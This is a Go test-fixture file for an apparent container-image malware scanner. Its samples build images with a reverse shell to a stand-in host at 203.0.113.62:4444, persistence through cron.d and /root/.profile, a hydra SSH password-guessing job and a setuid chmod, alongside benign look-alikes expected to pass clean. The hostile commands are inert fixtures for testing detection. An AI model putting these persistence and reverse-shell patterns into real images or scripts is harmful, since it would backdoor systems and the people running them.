package samples

import (
	"strings"

	"github.com/sallyport-dev/sallyport/report"
)

// passes is what shows only when an image is run more than once, or what it
// left behind is run, and what looks alike and is well meant.
func passes() []Sample {
	const callHome = "exec /bin/actor reverse-shell 203.0.113.62:4444\n"
	job := func(text string) Spec {
		s := script("mkdir -p /etc/cron.d\necho '*/5 * * * * root /usr/local/bin/maintenance --all' > /etc/cron.d/maintenance\necho ready\n")
		s.Files["/usr/local/bin/maintenance"] = "#!/bin/sh\n" + text
		return s
	}
	// guesses leaves a guesser of passwords to cron; before is what the image does itself.
	guesses := func(before string) Spec {
		s := job("exec hydra -l root 192.0.2.7 ssh\n")
		s.Files["/entrypoint.sh"] = "#!/bin/sh\n" + before + strings.TrimPrefix(s.Files["/entrypoint.sh"], "#!/bin/sh\n")
		s.Files["/usr/bin/hydra"] = "#!/bin/sh\necho \"$@\"\n"
		s.Files["/usr/local/bin/report"] = "#!/bin/sh\nid\n"
		return s
	}
	profile := script("echo '[ -x /usr/local/bin/motd ] && /usr/local/bin/motd' >> /root/.profile\nexec /bin/actor webserver 8080\n")
	profile.Files["/usr/local/bin/motd"] = "#!/bin/sh\n" + callHome
	first := "if [ -e /srv/app/.ready ]; then\n"
	second := "fi\nmkdir -p /srv/app\necho done > /srv/app/.ready\necho initialised\n"
	asks := ": \"${DB_PASSWORD:?must be set}\"\n"
	list := []Sample{
		shows("reverse-shell/asks-for-a-password", script(asks+callHome), malicious, "203.0.113.62:4444"),
		nearly("reverse-shell/database", script(asks+"exec /bin/actor webserver 5432\n")).verdict(clean...),
		shows("reverse-shell/second-start", script(first+callHome+second), malicious, "203.0.113.62:4444"),
		nearly("reverse-shell/initialised-once", script(first+"exec /bin/actor webserver 8080\n"+second)).verdict(clean...),
		shows("reverse-shell/by-cron", job(callHome), malicious, "203.0.113.62:4444").but("cron-persistence", "/etc/cron.d/maintenance"),
		shows("reverse-shell/at-login", profile, malicious, "203.0.113.62:4444").but("init-persistence", "/root/.profile"),
		// Neither pass proves it alone; and one sign that both show is one sign.
		shows("attack-tool-exec/by-cron", guesses("chmod 4755 /usr/local/bin/report\n"), malicious, "hydra").but("suid-create", "/usr/local/bin/report"),
		shows("attack-tool-exec/again-by-cron", guesses("hydra -l root 192.0.2.7 ssh\n"), []report.Conclusion{report.Suspicious}, "hydra"),
		nearly("reverse-shell/backup-by-cron", job("cp /etc/hostname /srv/backup\n")),
	}
	for i := range list {
		list[i].Profile = "standard"
	}
	return list
}
